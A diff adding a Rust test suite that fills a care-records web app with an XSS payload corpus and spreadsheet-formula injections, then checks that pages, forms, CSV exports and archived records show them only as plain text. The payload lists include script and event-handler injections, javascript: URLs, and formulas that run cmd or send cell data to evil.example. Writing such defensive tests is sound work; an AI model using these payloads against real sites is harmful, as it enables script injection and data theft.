@@ -1,0 +1,537 @@
+//! What somebody typed is only ever text. Every column that holds words is
+//! filled with the texts by which pages are broken into, every page is shown
+//! to its readers, and every form that stands on a page is filled with them
+//! and sent. No page then has an element, or an attribute, that it does not
+//! have with plain words in it. And no sheet has a cell that a spreadsheet
+//! would run.
+
+use std::collections::BTreeSet;
+
+use axum::http::Method;
+use kith_db::{Outcome, Tx, run};
+use kith_testkit::{Browser, Staff};
+use scraper::{ElementRef, Html, Selector};
+use sqlx::AssertSqlSafe;
+
+use crate::{
+    canaries::{sends_empty, token},
+    story::{Story, unzipped},
+};
+
+/// Ways into a page: elements, attributes, ends of attributes and of texts
+/// that are no markup, addresses that run, half and double encodings, and what
+/// parsers are known to read differently from one another.
+const PAYLOADS: &[&str] = &[
+    "<script>window.__pwned=1</script>",
+    "</title><script>window.__pwned=1</script>",
+    "</textarea><script>window.__pwned=1</script>",
+    "</script><script>window.__pwned=1</script>",
+    "<img src=x onerror=window.__pwned=1>",
+    "<svg/onload=window.__pwned=1>",
+    "<svg><script>window.__pwned=1</script></svg>",
+    "<svg><animate onbegin=window.__pwned=1 attributeName=x>",
+    "<body onload=window.__pwned=1>",
+    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
+    "<iframe src=javascript:parent.__pwned=1>",
+    "<object data=javascript:window.__pwned=1>",
+    "<embed src=javascript:window.__pwned=1>",
+    "<a href=javascript:window.__pwned=1>x</a>",
+    "<a href=\"java&#x09;script:window.__pwned=1\">x</a>",
+    "<form action=javascript:window.__pwned=1><button>x</button>",
+    "<button formaction=javascript:window.__pwned=1>x",
+    "<input autofocus onfocus=window.__pwned=1>",
+    "<details open ontoggle=window.__pwned=1>",
+    "<video><source onerror=window.__pwned=1>",
+    "<audio src=x onerror=window.__pwned=1>",
+    "<marquee onstart=window.__pwned=1>x</marquee>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
+    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
+    "<template><script>window.__pwned=1</script></template>",
+    "<style>@import'//evil.example/x.css'</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>",
+    "\" onmouseover=window.__pwned=1 x=\"",
+    "' onmouseover=window.__pwned=1 x='",
+    "\"><script>window.__pwned=1</script>",
+    "'><script>window.__pwned=1</script>",
+    "\" autofocus onfocus=window.__pwned=1 \"",
+    "x\" style=\"background:url(//evil.example)\" y=\"",
+    "`><img src=x onerror=window.__pwned=1>",
+    "--><script>window.__pwned=1</script>",
+    "]]><script>window.__pwned=1</script>",
+    "javascript:window.__pwned=1",
+    "data:text/html,<script>window.__pwned=1</script>",
+    "//evil.example/",
+    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
+    "&amp;lt;img src=x onerror=window.__pwned=1&amp;gt;",
+    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
+    "<<script>window.__pwned=1//<</script>",
+    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
+    "<img src=\"x` `<script>window.__pwned=1</script>\"` `>",
+    "\u{feff}<script>window.__pwned=1</script>",
+    "＜script＞window.__pwned=1＜/script＞",
+    "\u{202e}>tpircs<window.__pwned=1>tpircs/<",
+    "<x onclick=window.__pwned=1 tabindex=0 id=x>#x",
+    "<isindex type=image src=x onerror=window.__pwned=1>",
+    "<a ping=//evil.example href=x>x</a>",
+    "<portal src=//evil.example>",
+    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
+];
+
+/// Every column of words that people type: table, column, longest text.
+const TYPED: &[(&str, &str, usize)] = &[
+    ("scheme", "name", 100),
+    ("organisation", "name", 100),
+    ("account", "name", 100),
+    ("person", "given", 100),
+    ("person", "family", 100),
+    ("person", "known_as", 100),
+    ("person", "pronouns", 300),
+    ("person", "gender", 300),
+    ("person", "ethnicity", 300),
+    ("person", "address", 300),
+    ("person", "safe_contact", 300),
+    ("person", "risk", 300),
+    ("person", "communication", 300),
+    ("person", "access_needs", 300),
+    ("person", "interpreter", 300),
+    ("person", "matters", 900),
+    ("person_switch", "reason", 300),
+    ("referral", "referrer_name", 100),
+    ("referral", "why", 300),
+    ("referral", "next_step", 300),
+    ("referral", "what_changed", 900),
+    ("referral", "practice_to_do", 300),
+    ("referral_move", "note", 300),
+    ("contact", "note", 900),
+    ("contact", "why_not", 300),
+    ("contact", "connected_to", 300),
+    ("contact", "practice_line", 300),
+    ("task", "what", 300),
+    ("practice_message", "words", 900),
+    ("practice_message", "to_do", 300),
+    ("practice_message", "author_name", 100),
+    ("concern", "what", 900),
+    ("concern", "about", 300),
+    ("concern", "raised_name", 100),
+    ("concern", "reach", 300),
+    ("concern_event", "words", 900),
+    ("break_glass", "reason", 900),
+    ("import_batch", "file_name", 200),
+];
+
+/// Puts texts into every column, beginning with another one in each.
+async fn fill(story: &Story, texts: &[&str], round: usize) {
+    let scheme = story.world.scheme;
+    for (n, (table, column, most)) in TYPED.iter().enumerate() {
+        let mut text = String::new();
+        for at in 0..texts.len() {
+            let next = texts[(round + n + at) % texts.len()];
+            let longer = text.chars().count() + next.chars().count() + 1;
+            if longer > *most {
+                break;
+            }
+            text.push_str(next);
+            text.push(' ');
+        }
+        let text = text.trim().to_owned();
+        let sql = format!(
+            "update {table} set {column} = $2 where scheme_id = $1 and {column} is not null"
+        );
+        let set = async |tx: &mut Tx| -> Outcome<()> {
+            run!(
+                tx,
+                sqlx::query(AssertSqlSafe(sql.clone()))
+                    .bind(scheme)
+                    .bind(&text)
+            )?;
+            Ok(())
+        };
+        story.world.db.act(set).await.unwrap();
+    }
+}
+
+/// Gives every column something to be replaced.
+async fn is_full(story: &Story) {
+    const LINES: &[&str] = &[
+        "update person set known_as = 'x', pronouns = 'x', gender = 'x', ethnicity = 'x', risk = 'x',
+            communication = 'x', access_needs = 'x', interpreter = 'x', matters = 'x', address = 'x',
+            safe_contact = 'x' where scheme_id = $1",
+        "update referral set why = 'x', what_changed = 'x', practice_to_do = 'x',
+            next_step = case when next_on is null then next_step else 'x' end where scheme_id = $1",
+        "update contact set practice_line = 'x', connected_to = 'x' where scheme_id = $1",
+        "update practice_message set to_do = 'x' where scheme_id = $1",
+        "update concern set reach = 'x' where scheme_id = $1",
+        "update referral_move set note = 'x' where scheme_id = $1",
+        "update concern_event set words = 'x' where scheme_id = $1",
+    ];
+    for sql in LINES {
+        let scheme = story.world.scheme;
+        let set = async |tx: &mut Tx| -> Outcome<()> {
+            run!(tx, sqlx::query(*sql).bind(scheme))?;
+            Ok(())
+        };
+        story.world.db.act(set).await.unwrap();
+    }
+}
+
+/// The elements of a page, each with the names of its attributes, and where
+/// its addresses lead when that is not a place of ours.
+fn bones(page: &str) -> BTreeSet<String> {
+    let html = Html::parse_document(page);
+    let all = Selector::parse("*").unwrap();
+    html.select(&all).map(bone).collect()
+}
+
+fn bone(element: ElementRef<'_>) -> String {
+    let mut line = element.value().name().to_owned();
+    for (name, value) in element.value().attrs() {
+        line.push(' ');
+        line.push_str(name);
+        let leads = matches!(
+            name,
+            "href" | "src" | "action" | "formaction" | "data" | "srcdoc"
+        );
+        let ours = (value.starts_with('/') && !value.starts_with("//"))
+            || value.starts_with('#')
+            || value.is_empty()
+            || value.starts_with('?');
+        let known = value.starts_with("tel:") || value.starts_with("https://www.nhs.uk");
+        if leads && !ours && !known {
+            line.push_str(&format!("=ELSEWHERE({value})"));
+        }
+    }
+    line
+}
+
+/// Every page somebody can open in the story.
+async fn pages(story: &Story, who: Option<Staff>) -> Vec<(String, String)> {
+    let mut browser = match who {
+        Some(who) => story.world.signed_in(who).await,
+        None => story.world.visitor(),
+    };
+    let mut shown = Vec::new();
+    let routes = kith::router::routes();
+    for somebody in [story.mary, story.nora, story.rose] {
+        let objects = story.objects(somebody).await;
+        for route in routes.list().iter().filter(|route| route.method == "GET") {
+            let about = route.path.contains('{');
+            if !about && somebody.person != story.mary.person {
+                continue;
+            }
+            let Some(address) = objects.address(route.path) else {
+                continue;
+            };
+            let sent = browser.send(Method::GET, &address, None).await;
+            assert!(!sent.status.is_server_error(), "{address}: {}", sent.text());
+            let page = sent
+                .headers
+                .get("content-type")
+                .is_some_and(|kind| kind.as_bytes().starts_with(b"text/html"));
+            if page {
+                shown.push((address, sent.text()));
+            }
+        }
+    }
+    shown
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn xss_corpus() {
+    let story = Story::one().await;
+    is_full(&story).await;
+    let world = &story.world;
+    let readers = [
+        Some(world.kay),
+        Some(world.mo),
+        Some(world.rita),
+        Some(world.lena),
+        Some(world.grace),
+        Some(world.ada),
+        Some(world.sam),
+        None,
+    ];
+    fill(&story, &["plain", "words"], 0).await;
+    let mut known = BTreeSet::new();
+    for reader in readers {
+        for (_, page) in pages(&story, reader).await {
+            known.extend(bones(&page));
+        }
+    }
+    assert!(
+        known.iter().all(|bone| !bone.contains("ELSEWHERE")),
+        "{known:#?}"
+    );
+    let long = std::env::var_os("KITH_TEST_LONG").is_some();
+    let (mut seen, mut opened) = (BTreeSet::<&str>::new(), 0);
+    // A short column holds at least one text in each round.
+    let step = if long { 1 } else { 7 };
+    for round in (0..PAYLOADS.len()).step_by(step) {
+        fill(&story, PAYLOADS, round).await;
+        for (n, reader) in readers.into_iter().enumerate() {
+            if !long && n % 4 != round % 4 {
+                continue;
+            }
+            for (address, page) in pages(&story, reader).await {
+                opened += 1;
+                let new: Vec<String> = bones(&page).difference(&known).cloned().collect();
+                assert!(new.is_empty(), "{address} has {new:?}");
+                let words = Html::parse_document(&page);
+                let words: String = words.root_element().text().collect();
+                seen.extend(PAYLOADS.iter().filter(|text| words.contains(**text)));
+            }
+        }
+    }
+    println!(
+        "xss_corpus: {opened} pages, {} of {} texts read",
+        seen.len(),
+        PAYLOADS.len()
+    );
+    let unseen: Vec<_> = PAYLOADS
+        .iter()
+        .filter(|text| !seen.contains(**text))
+        .collect();
+    assert!(
+        unseen.is_empty(),
+        "never shown, so nothing is proved: {unseen:?}"
+    );
+}
+
+/// A form as it stands on a page: where it goes, and its fields.
+struct Form {
+    action: String,
+    fields: Vec<(String, String)>,
+    typed: Vec<String>,
+}
+
+fn forms(page: &str, at: &str) -> Vec<Form> {
+    let html = Html::parse_document(page);
+    let form = Selector::parse("form[method=post]").unwrap();
+    let field = Selector::parse("input, textarea, select").unwrap();
+    let read = |form: ElementRef<'_>| {
+        let (mut fields, mut typed) = (Vec::new(), Vec::new());
+        for field in form.select(&field) {
+            let Some(name) = field.value().attr("name") else {
+                continue;
+            };
+            let kind = field.value().attr("type").unwrap_or("text");
+            let value = field.value().attr("value").unwrap_or_default().to_owned();
+            match (field.value().name(), kind) {
+                ("input", "hidden") => fields.push((name.to_owned(), value)),
+                ("input", "radio" | "checkbox") => fields.push((name.to_owned(), value)),
+                ("input", "file") | ("select", _) => {}
+                _ => typed.push(name.to_owned()),
+            }
+        }
+        let to = form.value().attr("action").filter(|to| !to.is_empty());
+        Form {
+            action: to.unwrap_or(at).to_owned(),
+            fields,
+            typed,
+        }
+    };
+    html.select(&form).map(read).collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn whatever_is_typed_into_any_form_comes_back_as_text_and_breaks_nothing() {
+    let story = Story::one().await;
+    let world = &story.world;
+    let mut known = BTreeSet::new();
+    let readers = [
+        world.kay,
+        world.mo,
+        world.rita,
+        world.lena,
+        world.grace,
+        world.ada,
+    ];
+    for reader in readers {
+        for (_, page) in pages(&story, Some(reader)).await {
+            known.extend(bones(&page));
+        }
+    }
+    let (mut sent, mut back) = (0, 0);
+    let mut elements: BTreeSet<String> = known.iter().map(|bone| name_of(bone)).collect();
+    // What stands on a page with mistakes in it, and on no other.
+    elements.extend(["h2", "ul", "li", "strong"].map(str::to_owned));
+    for reader in readers {
+        let shown = pages(&story, Some(reader)).await;
+        let mut browser = world.signed_in(reader).await;
+        let mine = token(&mut browser, "/account").await;
+        for (at, page) in shown {
+            for form in forms(&page, &at) {
+                if form.typed.is_empty() || form.action.contains("/sign-out") {
+                    continue;
+                }
+                let text = PAYLOADS[sent % PAYLOADS.len()];
+                sent += 1;
+                let answer = sends(&mut browser, &form, &mine, text, sent).await;
+                if let Some(answer) = answer {
+                    back += usize::from(answer.contains("__pwned"));
+                    for bone in bones(&answer) {
+                        let attributes: Vec<&str> = bone.split(' ').skip(1).collect();
+                        let wrong = !elements.contains(&name_of(&bone))
+                            || attributes.iter().any(|name| name.starts_with("on"))
+                            || bone.contains("ELSEWHERE");
+                        assert!(!wrong, "{}: {text}: {bone}", form.action);
+                    }
+                }
+            }
+        }
+    }
+    println!("{sent} forms sent, {back} came back with what was typed");
+    assert!(sent > 60 && back > 30, "{sent} {back}");
+}
+
+fn name_of(bone: &str) -> String {
+    bone.split(' ').next().unwrap_or_default().to_owned()
+}
+
+/// Sends a form with a text in every field somebody types into; the page that
+/// comes back, if one does.
+async fn sends(
+    browser: &mut Browser,
+    form: &Form,
+    token: &str,
+    text: &str,
+    n: usize,
+) -> Option<String> {
+    let mut body = String::new();
+    for (name, value) in &form.fields {
+        let value = match name.as_str() {
+            "csrf" => token,
+            _ => value,
+        };
+        body.push_str(&format!("{}={}&", encoded(name), encoded(value)));
+    }
+    for name in &form.typed {
+        body.push_str(&format!("{}={}&", encoded(name), encoded(text)));
+    }
+    body.push_str(&format!("n={n}"));
+    let kind = "application/x-www-form-urlencoded".to_owned();
+    let sent = browser
+        .send(Method::POST, &form.action, Some((kind, body.into_bytes())))
+        .await;
+    assert!(
+        !sent.status.is_server_error(),
+        "{} with {text}: {}",
+        form.action,
+        sent.text()
+    );
+    (sent.status == 422).then(|| sent.text())
+}
+
+fn encoded(text: &str) -> String {
+    text.bytes()
+        .map(|byte| match byte {
+            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' => char::from(byte).to_string(),
+            other => format!("%{other:02X}"),
+        })
+        .collect()
+}
+
+/// Beginnings of cells that spreadsheets run, or once did.
+const FORMULAS: &[&str] = &[
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1\",\"=2+2",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "-3",
+    "+441632960417",
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn formula_corpus() {
+    for story in Story::both().await {
+        is_full(&story).await;
+        let (mut cells, mut made_safe) = (0, 0);
+        for formula in FORMULAS {
+            fill(&story, &[formula], 0).await;
+            for (name, text) in sheets(&story).await {
+                let text = text.trim_start_matches('\u{feff}');
+                let mut rows = csv::ReaderBuilder::new()
+                    .has_headers(false)
+                    .flexible(true)
+                    .from_reader(text.as_bytes());
+                for row in rows.records() {
+                    for cell in row.unwrap().iter() {
+                        cells += 1;
+                        made_safe += usize::from(cell.starts_with('\'') && cell[1..] == **formula);
+                        let runs = cell.starts_with([
+                            '=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠',
+                        ]);
+                        let number = cell.parse::<i64>().is_ok() && cell != *formula;
+                        assert!(!runs || number, "{name} has the cell {cell:?}");
+                    }
+                }
+            }
+        }
+        println!("formula_corpus: {cells} cells, {made_safe} made safe");
+        assert!(made_safe > FORMULAS.len() * 20, "{made_safe}");
+    }
+}
+
+/// Every sheet the program gives out: those with an address, and the files of
+/// the scheme's records.
+async fn sheets(story: &Story) -> Vec<(String, String)> {
+    let mut all = story.kept().await;
+    let world = &story.world;
+    for who in [world.rita, world.mo] {
+        let mut browser = world.signed_in(who).await;
+        let objects = story.objects(story.mary).await;
+        for route in kith::router::routes().list() {
+            if route.method != "GET" || !route.path.ends_with(".csv") {
+                continue;
+            }
+            let address = objects.address(route.path).unwrap();
+            let sent = browser.send(Method::GET, &address, None).await;
+            if sent.status == 200 {
+                assert!(
+                    sent.headers["content-disposition"]
+                        .as_bytes()
+                        .starts_with(b"attachment"),
+                    "{address} would be shown by the browser"
+                );
+                all.push((address, sent.text()));
+            }
+        }
+    }
+    all.retain(|(name, _)| name.ends_with(".csv"));
+    assert!(all.len() > 25, "{}", all.len());
+    all
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_persons_own_record_as_a_page_is_only_text() {
+    let story = Story::one().await;
+    is_full(&story).await;
+    let plain = record(&story, "plain words").await;
+    for payload in PAYLOADS {
+        let record = record(&story, payload).await;
+        let new: Vec<String> = bones(&record).difference(&bones(&plain)).cloned().collect();
+        assert!(new.is_empty(), "{payload}: {new:?}");
+    }
+}
+
+/// The page in the archive that Grace takes out for Mary.
+async fn record(story: &Story, text: &str) -> String {
+    fill(story, &[text], 0).await;
+    let mut grace = story.world.signed_in(story.world.grace).await;
+    let token = token(&mut grace, "/account").await;
+    let address = format!("/people/{}/export", story.mary.person);
+    let sent = sends_empty(&mut grace, &address, &token, 1).await;
+    assert_eq!(sent.status, 200, "{}", sent.text());
+    let files = unzipped(&sent.bytes);
+    let page = files.into_iter().find(|(name, _)| name == "record.html");
+    page.unwrap().1
+}
